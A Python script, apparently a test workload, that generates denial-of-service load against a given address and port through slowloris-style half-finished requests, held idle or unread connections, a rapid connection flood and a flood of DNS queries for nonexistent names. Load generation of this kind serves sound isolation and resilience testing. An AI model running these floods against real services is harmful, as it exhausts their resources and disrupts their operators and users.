"""A workload that takes all that it can get: ``hostile.py HOW ADDRESS PORT COUNT``.

unread: so many downloads of which nothing is read; idle: connections on which nothing is sent;
halves: requests whose headers never end; connections: so many a second, each for one request;
names: so many queries a second to a resolver, each from a socket of its own.
It goes on until its standard input ends, and prints then what it has got. It is as frugal as such
a program can be, so that what its neighbours suffer is not for want of the CPU that it uses itself.
"""

from __future__ import annotations

import contextlib
import json
import os
import select
import socket
import struct
import sys
import threading
import time
from collections import Counter

_PATIENCE = 2.0
"""Seconds for a connection to come about."""
_AT_ONCE = 2000
"""Connections under way."""
_MOMENT = 0.002


def _request(path: str, address: str) -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {address}\r\n".encode()


def hold(address: str, port: int, count: int, said: bytes, got: Counter[str]) -> None:
    """Connections on which this was said, and whose answers are not read."""
    held: list[socket.socket] = []
    for _ in range(count):
        try:
            one = socket.create_connection((address, port), timeout=_PATIENCE)
            one.sendall(said)
        except OSError:
            got["refused"] += 1
            continue
        held.append(one)
        got["open"] += 1
    while held:
        time.sleep(1)


class Connections:
    """At a rate, whatever becomes of them."""

    def __init__(self, address: str, port: int, got: Counter[str]) -> None:
        self._to = address, port
        self._said = _request("/", address) + b"Connection: close\r\n\r\n"
        self._got = got
        self._under_way: dict[int, socket.socket] = {}
        self._events = select.epoll()

    def run(self, rate: int) -> None:
        begun, number = time.monotonic(), 0
        while True:
            due = int((time.monotonic() - begun) * rate)
            for _ in range(min(due - number, _AT_ONCE - len(self._under_way))):
                self._open()
            number = due
            for descriptor, event in self._events.poll(_MOMENT):
                self._go_on(descriptor, event)

    def _open(self) -> None:
        one = socket.socket()
        one.setblocking(False)
        one.connect_ex(self._to)
        self._under_way[one.fileno()] = one
        self._events.register(one, select.EPOLLOUT)

    def _go_on(self, descriptor: int, event: int) -> None:
        one = self._under_way[descriptor]
        try:
            if event == select.EPOLLOUT:
                one.send(self._said)
                self._events.modify(one, select.EPOLLIN)
                return
            self._got["answered" if one.recv(4096) else "refused"] += 1
        except OSError:
            self._got["refused"] += 1
        self._events.unregister(one)
        del self._under_way[descriptor]
        one.close()


def ask(address: str, port: int, rate: int, got: Counter[str]) -> None:
    """For names that nobody has; nobody waits for the answers."""
    begun, number = time.monotonic(), 0
    while True:
        for _ in range(int((time.monotonic() - begun) * rate) - number):
            number += 1
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                with contextlib.suppress(OSError):
                    one.sendto(_query(number), (address, port))
                got["asked"] += 1
        time.sleep(_MOMENT)


def _query(number: int) -> bytes:
    labels = (f"n{number}".encode(), b"example", b"com", b"")
    name = b"".join(bytes([len(label)]) + label for label in labels)
    return struct.pack(">6H", number & 0xFFFF, 0x100, 1, 0, 0, 0) + name + b"\0\1\0\1"


def _attack(how: str, address: str, port: int, count: int, got: Counter[str]) -> None:
    match how:
        case "unread":
            hold(address, port, count, _request("/large", address) + b"\r\n", got)
        case "idle":
            hold(address, port, count, b"", got)
        case "halves":
            hold(address, port, count, _request("/", address) + b"X-Half: ", got)
        case "connections":
            Connections(address, port, got).run(count)
        case _:
            ask(address, port, count, got)


def main(how: str, address: str, port: str, count: str) -> None:
    got: Counter[str] = Counter()
    task = (how, address, int(port), int(count), got)
    threading.Thread(target=_attack, args=task, daemon=True).start()
    sys.stdin.read()
    print(json.dumps(got), flush=True)
    os._exit(0)  # the kernel closes thousands of connections faster than we do


main(*sys.argv[1:])
